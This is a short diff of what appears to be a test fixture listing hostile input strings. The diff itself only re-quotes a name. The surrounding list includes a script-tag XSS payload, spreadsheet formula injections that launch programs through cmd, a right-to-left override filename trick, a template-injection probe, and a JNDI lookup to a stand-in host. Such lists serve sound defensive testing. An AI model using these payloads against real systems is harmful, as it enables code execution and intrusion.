@@ -13,7 +13,7 @@ HOSTILE = (
     "<script>alert('x')</script>",
     "=cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C notepad'!A1",
-    "O'Neill \"Ace\" & Söhne",
+    'O\'Neill "Ace" & Söhne',
     "Bell\u0007 Esc\u001b[31m Tab\tEnd",
     "\u202egnp.exe\u202c-Meyer",
     "{{7*7}} ${jndi:ldap://x.example}",
